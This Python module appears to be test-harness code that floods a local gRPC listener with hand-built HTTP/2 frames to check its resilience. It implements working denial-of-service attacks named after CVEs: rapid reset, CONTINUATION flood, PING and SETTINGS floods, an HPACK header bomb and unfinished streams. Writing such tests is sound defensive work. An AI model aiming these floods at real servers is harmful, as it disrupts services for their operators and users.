"""Floods of a listener by who holds a gateway's stolen key: HTTP/2 by hand, thousands of frames.

Each is what gRPC's own caller would never send; sources: RFC 9113, RFC 7541, CVE-2023-44487 (rapid
reset), CVE-2024-27316 and its kin (CONTINUATION), CVE-2019-9512 (ping), -9515 (settings).
"""

from __future__ import annotations

import socket
import ssl
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress

from tests.simulate.rawhttp2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
    literal,
    request_block,
)  # fmt: skip

METHOD = "/embrasure.v1.Node/Status"


@contextmanager
def connected(port: int, context: ssl.SSLContext, *, host: str) -> Iterator[ssl.SSLSocket]:
    """A TLS connection on which the preface was sent; raises OSError."""
    with (
        socket.create_connection(("127.0.0.1", port), timeout=5) as plain,
        context.wrap_socket(plain, server_hostname=host) as sock,
    ):
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(SETTINGS, ACK, 0, b""))
        yield sock


def flood(port: int, context: ssl.SSLContext, kind: str, count: int, *, host: str) -> int:
    """Return how many bytes of `count` frames of this kind the listener took before it hung up.

    Raises OSError when there was no connection at all.
    """
    taken = 0
    with connected(port, context, host=host) as sock, suppress(OSError):
        for piece in KINDS[kind](count, host):
            sock.sendall(piece)
            taken += len(piece)
            _drain(sock)
    return taken


def _drain(sock: ssl.SSLSocket) -> None:
    """Read what is there, so that a listener that answers each frame is not stopped by us."""
    sock.setblocking(False)
    try:
        while sock.recv(1 << 16):
            pass
        raise ConnectionResetError("hung up")
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    finally:
        sock.setblocking(True)
        sock.settimeout(5)


def _batched(frames: Iterator[bytes]) -> Iterator[bytes]:
    held = bytearray()
    for one in frames:
        held += one
        if len(held) >= 1 << 14:
            yield bytes(held)
            held.clear()
    yield bytes(held)


def _rapid_reset(count: int, host: str) -> Iterator[bytes]:
    block = request_block(METHOD, host)
    cancel = (8).to_bytes(4, "big")
    return _batched(
        frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)
        for stream in range(1, 2 * count, 2)
    )


def _pings(count: int, host: str) -> Iterator[bytes]:
    return _batched(frame(PING, 0, 0, n.to_bytes(8, "big")) for n in range(count))


def _settings(count: int, host: str) -> Iterator[bytes]:
    return _batched(frame(SETTINGS, 0, 0, b"") for _ in range(count))


def _continuation(count: int, host: str) -> Iterator[bytes]:
    """A header block that never ends."""
    yield frame(HEADERS, 0, 1, request_block(METHOD, host))
    body = literal(b"x-more", bytes(100)) * 140
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1, body)


def _header_bomb(count: int, host: str) -> Iterator[bytes]:
    """One long field in the dynamic table, then one byte for each time it is meant (RFC 7541)."""
    long = b"\x40" + literal(b"x-long", bytes(3000))[1:]  # with incremental indexing
    for stream in range(1, 2 * count, 2):
        block = request_block(METHOD, host) + long + b"\xbe" * 10_000
        yield frame(HEADERS, END_HEADERS, stream, block)


def _unfinished(count: int, host: str) -> Iterator[bytes]:
    """Calls that are begun and never go on."""
    block = request_block(METHOD, host)
    return _batched(
        frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, b"\0\0\0")
        for stream in range(1, 2 * count, 2)
    )


KINDS: dict[str, Callable[[int, str], Iterator[bytes]]] = {
    "rapid_reset": _rapid_reset,
    "pings": _pings,
    "settings": _settings,
    "continuation": _continuation,
    "header_bomb": _header_bomb,
    "unfinished_calls": _unfinished,
}
